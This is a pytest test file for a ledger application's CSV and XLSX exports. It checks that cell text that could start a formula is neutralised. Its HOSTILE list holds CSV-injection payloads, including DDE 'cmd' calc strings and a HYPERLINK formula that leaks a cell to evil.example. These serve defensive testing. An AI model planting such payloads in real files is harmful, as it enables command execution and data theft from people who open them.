"""Spreadsheet exports never carry a formula: text that would start one is neutralised (OWASP CSV
injection), numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from flask.testing import FlaskClient
from openpyxl import Workbook, load_workbook

from tests.conftest import Users
from tests.ledger.books import Books
from workflow.core import Core
from workflow.ledger.exports import cell_value, csv_bytes, xlsx_append

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"查看明细")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_text_that_starts_a_formula_is_neutralised_and_numbers_are_not() -> None:
    for text in HOSTILE:
        assert cell_value(text) == "'" + text
    for kept in ("深圳市华星光电技术有限公司", "C001", "", "1-2 年", "a=b"):
        assert cell_value(kept) == kept
    for number in (Decimal("-12.50"), -3, 4.5, date(2026, 11, 26), None):
        assert cell_value(number) == number


def test_csv_and_xlsx_writers_keep_negative_amounts_as_numbers() -> None:
    rows = [["a − b", "-12.50", Decimal("-12.50"), -3]]  # "-12.50" as text is text, so neutralised
    assert csv_bytes(rows).decode("utf-8-sig") == "a − b,'-12.50,-12.50,-3\r\n"
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    assert xlsx_append(ws, ["=1+1", Decimal("-12.50"), -3]) == 1
    assert xlsx_append(ws, ["C001"]) == 2
    buf = io.BytesIO()
    wb.save(buf)
    back = load_workbook(buf).active
    assert back is not None
    assert (back.cell(1, 1).value, back.cell(1, 1).data_type) == ("'=1+1", "s")
    assert (back.cell(1, 2).value, back.cell(1, 2).data_type) == (-12.5, "n")
    assert (back.cell(1, 3).value, back.cell(1, 3).data_type) == (-3, "n")


def hostile_books(core: Core) -> None:
    books = Books(core)
    for i, name in enumerate(HOSTILE):
        code = f"{'=+-@'[i % 4]}K{i}"  # the customer code is text from an import too
        books.customer(code, name)
        books.invoice(code, date(2026, 9, 1), date(2026, 10, 1), f"{100 + i}.00")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_aging_exports_carry_no_formula(core: Core, client: FlaskClient, users: Users, fmt: str) -> None:
    hostile_books(core)
    resp = client.get(f"/api/v1/reports/aging/file?format={fmt}", headers=users.clerk)
    assert resp.status_code == 200
    cells: list[Any]
    lines: dict[Any, list[Any]]
    if fmt == "csv":
        table = list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"), newline="")))
        cells = [v for row in table for v in row]
        lines = {row[0]: row for row in table[2:] if row and row[0]}
    else:
        wb = load_workbook(io.BytesIO(resp.data))
        every = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in every if c.data_type == "f"]
        cells = [c.value for c in every]
        lines = {row[0]: list(row) for row in wb.worksheets[0].iter_rows(min_row=3, values_only=True) if row[0]}
    assert not [v for v in cells if isinstance(v, str) and v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for i, name in enumerate(HOSTILE):
        row = lines["'" + f"{'=+-@'[i % 4]}K{i}"]
        assert row[1] == "'" + name
        # the amount is a number in XLSX (exact text in CSV), 56 days overdue: the 31–60 column
        assert row[5] == (f"{100 + i}.00" if fmt == "csv" else pytest.approx(100 + i))
